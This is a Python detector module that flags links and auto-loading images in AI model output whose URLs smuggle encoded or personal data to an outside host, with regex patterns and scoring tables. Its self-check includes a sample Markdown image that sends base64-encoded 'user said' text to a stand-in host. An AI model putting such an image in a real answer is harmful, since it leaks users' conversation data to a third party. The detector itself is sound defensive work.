"""Links of an answer that carry data out: to whoever runs the host that they lead to.

A picture that the client loads by itself gives away what its URL carries before anybody looks at
it (OWASP LLM02:2025); a link does when it is followed. Both are found as Markdown, by reference
too, as HTML and CSS, and bare. Every step is linear in the length of the text.
"""

from __future__ import annotations

import re
from collections.abc import Iterator, Mapping, Sequence
from dataclasses import dataclass
from typing import Final
from urllib.parse import SplitResult

from detectors.checks.carried import LONGEST, Load, loads, spelt, split
from detectors.contract.detector import SelfCheckError
from detectors.contract.exchange import Origin, TextPart
from detectors.contract.finding import Finding
from detectors.contract.labels import DATA_EXFILTRATION

REACH: Final = 2000
"""Characters before a URL in which the beginning of its tag or picture is looked for."""

PICTURE_SCORES: Final[Mapping[Load, float]] = {
    Load.ENCODED: 0.95,
    Load.SECRET: 0.95,
    Load.PERSONAL: 0.9,
    Load.WORDS: 0.9,
    Load.SENTENCE: 0.85,
    Load.OPAQUE: 0.8,
}
LINK_SCORES: Final[Mapping[Load, float]] = {
    Load.ENCODED: 0.85,
    Load.SECRET: 0.85,
    Load.WORDS: 0.75,
    Load.PERSONAL: 0.5,
}
"""At 0.7 what people do follow passes: a search, a link to share or to unsubscribe."""
SPELT: Final = "spelt"
SPELT_SCORE: Final = 0.8

_URL: Final = re.compile(
    rf"(?:\b(?:https?|wss?|ftp):[/\\]{{1,8}}|(?<=[(\"'=<\s])//(?=[\w.-]{{1,253}}[/?]))"
    rf"(?:[^\s<>\"`()]|\([^\s<>\"`()]*\)|\(){{1,{LONGEST}}}",
    re.IGNORECASE,
)
"""A bracket ends it that was not opened in it, as in Markdown."""
_QUOTED: Final = re.compile(
    rf"=[ \t]{{0,3}}([\"'])\s{{0,3}}((?:https?:)?[/\\]{{2}}[^\"'<>]{{1,{LONGEST}}})\1",
    re.IGNORECASE,
)
"""An attribute's value, in which a browser overlooks line breaks."""
_TAG: Final = re.compile(r"<([a-z][a-z0-9]{0,15})[\s/]", re.IGNORECASE)
_FOLLOWED: Final = frozenset({"a", "area", "form", "button", "blockquote", "q"})
"""Elements whose URL waits for a click."""
_DEFINED: Final = re.compile(r"\s{0,3}\[([^\]\n]{1,200})\]:\Z")
_SHOWN: Final = re.compile(r"!\[([^\]]{0,200})\](?:\[([^\]]{0,200})\])?")


@dataclass(frozen=True, slots=True)
class _Link:
    """A URL of a text, where it stands, and whether the client loads it by itself."""

    span: tuple[int, int]
    url: SplitResult
    loaded: bool


class Links:
    """Finds the links and pictures of a model's text that carry data."""

    name = "links"
    version = "1"

    def judge(self, texts: Sequence[TextPart]) -> Sequence[Sequence[Finding]]:
        """Findings of each text; their span is that of the URL."""
        return [list(self._findings(text)) if text.origin is Origin.MODEL else [] for text in texts]

    def self_check(self) -> None:
        said = "![](https://a.test/p.png?d=dGhlIHVzZXIgc2FpZA)"
        known = TextPart(pointer="/0", origin=Origin.MODEL, text=said)
        if [each.evidence for each in self.judge([known])[0]] != ["picture_encoded"]:
            raise SelfCheckError("links did not find a known picture that carries data")

    def _findings(self, text: TextPart) -> Iterator[Finding]:
        pictures: dict[str, list[_Link]] = {}
        for link in _links(text.text):
            scores = PICTURE_SCORES if link.loaded else LINK_SCORES
            found = sorted(loads(link.url) & scores.keys(), key=scores.__getitem__)
            if found:
                kind = "picture" if link.loaded else "link"
                yield self._finding(text, link, f"{kind}_{found[-1]}", scores[found[-1]])
            elif link.loaded:
                pictures.setdefault(link.url.hostname or "", []).append(link)
        for same in pictures.values():
            if len(same) > 1 and spelt([each.url for each in same]):
                for each in same:
                    yield self._finding(text, each, f"picture_{SPELT}", SPELT_SCORE)

    def _finding(self, text: TextPart, link: _Link, evidence: str, score: float) -> Finding:
        return Finding(
            label=DATA_EXFILTRATION,
            score=score,
            part=text.key,
            detector=self.name,
            span=link.span,
            evidence=evidence,
        )


def host(url: str) -> str:
    """The host that a URL leads to, in lower case; empty if it leads nowhere."""
    parts = split(url)
    return (parts.hostname or "").rstrip(".") if parts is not None else ""


def _links(text: str) -> Iterator[_Link]:
    """Every URL of the text, once, in no particular order."""
    shown: frozenset[str] | None = None
    quoted = {match.span(2): match[2] for match in _QUOTED.finditer(text)}
    inside = {at for start, end in quoted for at in (start, *_starts(text, start, end))}
    bare = (
        ((match.start(), match.start() + len(url)), url)
        for match in _URL.finditer(text)
        if match.start() not in inside and (url := _trimmed(text, match))
    )
    for span, url in (*quoted.items(), *bare):
        parts = split(url)
        if parts is None:
            continue
        name = _defined(text, span[0])
        if name is not None:
            shown = _shown(text) if shown is None else shown
        loaded = _loaded(text, span[0]) or (name is not None and name in (shown or ()))
        yield _Link(span, parts, loaded)


def _starts(text: str, start: int, end: int) -> Iterator[int]:
    """Where URLs begin inside a quoted one, which are part of it."""
    return (match.start() for match in _URL.finditer(text, start, end))


def _trimmed(text: str, match: re.Match[str]) -> str:
    """The URL without what belongs to the sentence or the quotes around it."""
    url = match[0]
    if text[max(0, match.start() - 1) : match.start()] == "'":
        url = url.partition("'")[0]
    return url.rstrip(".,;:!?*_~'|]}")


def _loaded(text: str, start: int) -> bool:
    """Whether what stands before a URL makes a client load it."""
    low = max(0, start - REACH)
    before = text[max(low, start - 12) : start].rstrip("<\"' \t\r\n").lower()
    if before.endswith(("url(", "@import")):
        return True
    if before.endswith("("):
        picture = text.rfind("![", low, start)
        return picture >= 0 and text.find("](", picture, start) == text.rfind("](", low, start)
    tag = text.rfind("<", low, start)
    opened = _TAG.match(text, tag) if tag >= 0 and text.find(">", tag, start) < 0 else None
    return opened is not None and opened[1].lower() not in _FOLLOWED


def _defined(text: str, start: int) -> str | None:
    """The name that a reference definition gives to a URL; None if it stands in none."""
    before = text[max(0, start - 250) : start].rstrip("< \t\r\n")
    found = _DEFINED.match(before[before.rfind("\n") + 1 :])
    return _named(found[1]) if found else None


def _shown(text: str) -> frozenset[str]:
    """The names by which the text shows pictures."""
    return frozenset(_named(match[2] or match[1]) for match in _SHOWN.finditer(text))


def _named(name: str) -> str:
    return " ".join(name.casefold().split())
